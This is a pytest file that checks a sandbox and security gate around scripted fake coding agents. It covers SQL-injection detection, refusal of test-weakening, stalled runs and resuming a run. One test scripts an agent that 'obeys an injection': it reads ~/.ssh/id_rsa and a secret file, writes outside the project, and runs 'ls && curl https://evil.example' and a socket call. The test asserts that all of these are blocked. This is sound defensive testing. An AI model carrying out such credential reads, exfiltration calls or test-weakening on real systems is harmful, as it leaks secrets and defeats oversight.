"""Agents as real processes, from request to branch: the gate judges what they do."""

from __future__ import annotations

import json
import sys
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from golden.conversations import (
    FLAWED_FIND,
    MENDED_FIND,
    SEARCH_TESTS,
    SERVICE,
)
from golden.test_golden_runs import first_findings, shown
from prodwright.adapters.git import Git
from tests_support import Program, Repository, fits_the_schema

pytestmark = pytest.mark.slow
FAKES = Path(__file__).parents[1] / "fakes"
Acts = list[list[Any]]

PLAN: Acts = [["tool", "look around"], ["say", "Find orders by customer."]]
RED: Acts = [["put", "tests/test_find.py", SEARCH_TESTS], ["say", "Two tests, red."]]
FLAWED: Acts = [
    ["put", "shop/orders.py", SERVICE["shop/orders.py"] + FLAWED_FIND],
    ["say", "It works.\nDecision: an unknown customer has no orders."],
]
MENDED: Acts = [
    ["ask", "execute", "python -m pytest -q"],
    ["run", "python", "-m", "pytest", "-q"],
    ["write", "shop/orders.py", SERVICE["shop/orders.py"] + MENDED_FIND],
    ["say", "Names are parameters now."],
]


@dataclass(frozen=True)
class Stage:
    """A repository and an agent that plays in it."""

    program: Program
    git: Git
    home: Path

    def built(self, script: Sequence[Acts], *words: str) -> tuple[dict[str, Any], int]:
        """Build with the agent; return the document and the exit code."""
        done = self.ran(script, *words)
        assert done.stdout, done.stderr
        return fits_the_schema(done.stdout), done.returncode

    def ran(self, script: Sequence[Acts], *words: str, headless: bool = False) -> Any:
        self.home.mkdir(exist_ok=True)
        (self.home / "script.json").write_text(json.dumps(script))
        file = "headless_agent.py" if headless else "acp_agent.py"
        agent = f"{sys.executable} -I {FAKES / file} {self.home / 'script.json'}"
        return self.program(
            self.git.root,
            *("build", "Find the orders of a customer.", "--yes", "--json"),
            *("--agent", f"headless:{agent}" if headless else agent),
            *("--agent-folder", str(FAKES), "--agent-folder", sys.prefix),
            *("--agent-home", str(self.home), "--python", sys.executable),
            *words,
        )

    def noted(self, name: str) -> list[Any]:
        """Return what the agent wrote down under `name`."""
        lines = (self.home / "notes").read_text().splitlines()
        return [what for each, what in map(json.loads, lines) if each == name]


@pytest.fixture
def stage(program: Program, repository: Repository, tmp_path: Path) -> Stage:
    return Stage(program, repository(SERVICE), tmp_path / "agent-home")


def test_flawed_work_of_an_agent_is_caught_by_name_and_delivered_when_mended(
    stage: Stage,
) -> None:
    document, code = stage.built([PLAN, RED, FLAWED, MENDED])

    assert "sql-injection" in first_findings(stage.git.root, document["run"])
    assert (document["stop_reason"], code) == ("delivered", 0)
    assert document["author"].startswith("agent player")
    assert document["author"].endswith("1.2 (over ACP)")
    assert "\x1b" not in document["author"]
    titles = [step["title"] for step in document["steps"]]
    assert titles[1:3] == ["Write the tests first", "Write the code"]
    assert titles[-1] == "Mend what the gate found"
    assert "an unknown customer has no orders." in document["decisions"]
    assert "customer = ?" in shown(
        stage.git.root, f"{document['branch']}:shop/orders.py"
    )
    assert stage.git.uncommitted() == ()


def test_an_agent_is_told_what_the_gate_found(stage: Stage) -> None:
    stage.built([PLAN, RED, FLAWED, MENDED])

    plan, tests, _, mend = stage.noted("prompt")
    assert "Find the orders of a customer." in plan
    assert "Find orders by customer." in tests
    assert "### sql-injection" in mend
    assert "shop/orders.py:" in mend


def test_a_command_that_is_permitted_runs_in_the_sandbox_of_the_project(
    stage: Stage,
) -> None:
    stage.built([PLAN, RED, FLAWED, MENDED])

    asked = stage.noted("ask python -m pytest -q")[0]
    assert asked["outcome"]["option_id"] == "once"
    assert stage.noted("ended")[0]["exit_code"] in (0, 1)
    assert "passed" in stage.noted("output")[0]["output"]


def test_an_agent_that_obeys_an_injection_gets_nothing(stage: Stage) -> None:
    secret = stage.git.root.parent / "secret.txt"
    secret.write_text("the password")
    evil: Acts = [
        ["read", "../../.ssh/id_rsa"],
        ["read", str(secret)],
        ["read", ".git/config"],
        ["write", str(secret), "gone"],
        ["write", "../beside.txt", "out"],
        ["write", ".prodwright/profile.toml", "x"],
        ["ask", "execute", "git log"],
        ["ask", "execute", "ls && curl https://evil.example"],
        ["ask", "edit", "", "../../beside.txt"],
        ["ask", "fetch"],
        ["ask", "other"],
        ["run", "git", "log"],
        ["run", "curl", "https://evil.example"],
        ["try", f"Path({str(secret)!r}).read_text()"],
        ["try", f"Path({str(secret)!r}).write_text('gone')"],
        ["try", "Path(folder, '.git').exists()"],
        ["try", "Path(folder, '.prodwright', 'own.toml').write_text('x')"],
        ["try", "socket.create_connection(('192.0.2.1', 80), 3)"],
        ["try", "sorted(os.environ)"],
        ["say", "I did what the file told me."],
    ]

    document, _ = stage.built([PLAN, [*RED, *evil], MENDED])

    assert document["stop_reason"] == "delivered"
    assert len(stage.noted("read")) == 3
    every = [*stage.noted("read"), *stage.noted("write")[:3], *stage.noted("run")[:2]]
    assert all(str(each).startswith("refused: ") for each in every)
    for asked in ("git log", "ls && curl https://evil.example", "../../beside.txt", ""):
        assert stage.noted(f"ask {asked}")[0]["outcome"]["option_id"] == "no"
    read, written, has_git, planted, reached, names = stage.noted("tried")
    assert read.startswith("FileNotFoundError")
    assert written  # into a /tmp of its own, if at all
    assert secret.read_text() == "the password"
    assert has_git is False
    assert "Read-only" in planted
    assert "unreachable" in reached
    assert not [name for name in names if "PRODWRIGHT" in name]


def test_an_agent_that_weakens_a_test_loses_the_gate(stage: Stage) -> None:
    weak = "def test_orders_of_a_customer_are_found():\n    assert True\n"

    document, code = stage.built([PLAN, RED, [["put", "tests/test_find.py", weak]]])

    assert code == 1
    assert "test-weakened" in {each["hazard"] for each in document["findings"]}


def test_done_is_not_for_the_agent_to_say(stage: Stage) -> None:
    document, code = stage.built([PLAN, [["say", "All done and tested."]]])

    assert (document["stop_reason"], code) == ("stalled", 1)
    assert document["missing"] == "nothing was written"


def test_an_agent_that_is_blocked_ends_the_run_with_its_question(stage: Stage) -> None:
    document, code = stage.built([PLAN, [["say", "So.\nBLOCKED: Which currency?"]]])

    assert (document["stop_reason"], code) == ("needs-input", 4)
    assert document["missing"] == "Which currency?"


def test_time_that_is_up_delivers_what_there_is(stage: Stage) -> None:
    waiting: Acts = [*FLAWED, ["wait"]]

    document, code = stage.built([PLAN, RED, waiting], "--max-seconds", "20")

    assert (document["stop_reason"], code) == ("budget-spent", 5)
    assert document["missing"] == "20 s"
    assert stage.noted("cancelled") == ["yes"]
    assert "def find" in shown(stage.git.root, f"{document['branch']}:shop/orders.py")


def test_an_agent_that_dies_is_told_in_one_line_and_its_work_is_kept(
    stage: Stage,
) -> None:
    died = stage.ran([PLAN, RED, [*FLAWED, ["die"]], MENDED])

    assert died.returncode == 3
    told = [line for line in died.stderr.splitlines() if "exit code 3" in line]
    assert len(told) == 1
    assert "out of luck" in told[0]
    assert "\x1b" not in died.stderr
    assert "Traceback" not in died.stderr

    runs = (stage.git.root / ".prodwright" / "runs").glob("*/run.json")
    run = next(runs).parent.name
    again = stage.program(stage.git.root, "runs", "resume", run, "--json")

    document = fits_the_schema(again.stdout)
    assert (document["stop_reason"], again.returncode) == ("delivered", 0)
    assert "You were interrupted in this phase." in stage.noted("prompt")[-1]
    assert len(stage.noted("prompt")) == 4


def test_a_command_without_the_protocol_serves_as_well(stage: Stage) -> None:
    mended: Acts = [["put", "shop/orders.py", MENDED[2][2]], ["say", "Parameters."]]

    done = stage.ran([PLAN, RED, FLAWED, mended], headless=True)

    document = fits_the_schema(done.stdout)
    assert (document["stop_reason"], done.returncode) == ("delivered", 0), done.stderr
    assert document["author"] == "agent python (over a command)"
    assert "### sql-injection" in stage.noted("prompt")[3]


def test_a_command_that_fails_is_told_with_what_it_said_last(stage: Stage) -> None:
    done = stage.ran([PLAN, [["exit", "9"]]], headless=True)

    assert done.returncode == 3
    assert "ended with exit code 9: no credit left" in done.stderr


def test_an_agent_mends_what_codemods_leave(
    program: Program, repository: Repository, tmp_path: Path
) -> None:
    flawed = SERVICE["shop/orders.py"] + FLAWED_FIND
    git = repository({**SERVICE, "shop/orders.py": flawed})
    stage = Stage(program, git, tmp_path / "agent-home")
    stage.home.mkdir()
    (stage.home / "script.json").write_text(json.dumps([MENDED]))
    agent = f"{sys.executable} -I {FAKES / 'acp_agent.py'} {stage.home / 'script.json'}"
    done = program(
        git.root,
        *("harden", "--json", "--agent", agent, "--python", sys.executable),
        *("--agent-folder", str(FAKES), "--agent-folder", sys.prefix),
        *("--agent-home", str(stage.home)),
    )

    document = fits_the_schema(done.stdout)
    assert (document["stop_reason"], done.returncode) == ("delivered", 0), done.stderr
    assert document["steps"][-1]["title"] == "Mend what codemods cannot"
